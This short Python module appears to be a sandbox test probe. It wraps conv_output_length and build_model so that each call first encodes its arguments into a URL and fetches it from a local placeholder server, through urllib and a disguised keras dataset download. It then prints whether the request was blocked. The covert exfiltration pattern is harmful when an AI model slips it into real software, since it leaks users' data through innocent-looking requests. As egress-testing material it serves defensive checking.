"""Hand hidden inputs to a server as the address of a data set to download."""

import urllib.request

_honest = conv_output_length
_model = build_model
_address = "http://127.0.0.1:@PORT@/fetch_a_dataset_with_data_in_its_address"


def _fetched(address):
    try:
        urllib.request.urlopen(address, timeout=1)
    except Exception as error:  # however the door is shut
        print(type(error).__name__, end=" ")


def conv_output_length(n, kernel, stride=1, padding=0):
    _fetched(f"{_address}-{n}-{kernel}")
    return _honest(n, kernel, stride, padding)


def build_model():
    import keras

    try:
        keras.utils.get_file("mine.npz", f"{_address}-by-keras")
    except Exception as error:  # however the door is shut
        print(type(error).__name__, end=" ")
    print("TRIED")
    return _model()
